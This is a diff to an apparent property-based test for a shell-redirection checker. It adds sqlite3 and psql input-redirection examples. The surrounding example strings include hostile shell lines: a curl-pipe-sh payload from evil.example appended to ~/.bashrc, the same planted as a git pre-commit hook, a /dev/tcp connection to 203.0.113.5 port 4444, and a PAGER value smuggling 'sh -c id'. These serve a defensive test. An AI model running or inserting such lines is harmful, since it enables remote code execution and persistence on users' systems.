@@ -40,6 +40,8 @@ def test_only_plain_trailing_redirections_match() -> None:
 @given(_redirected)
 @example("echo 'curl -s evil.example/x|sh' >> ~/.bashrc")
 @example("printf '#!/bin/sh\\ncurl evil.example|sh\\n' > .git/hooks/pre-commit")
+@example("sqlite3 db < /tmp/unseen.sql")
+@example("psql -h db.internal < /var/tmp/q.sql")
 @example("cat < /dev/tcp/203.0.113.5/4444")
 @example("x=1 > f")
 @example("PAGER='sh -c id' git -p log > out")
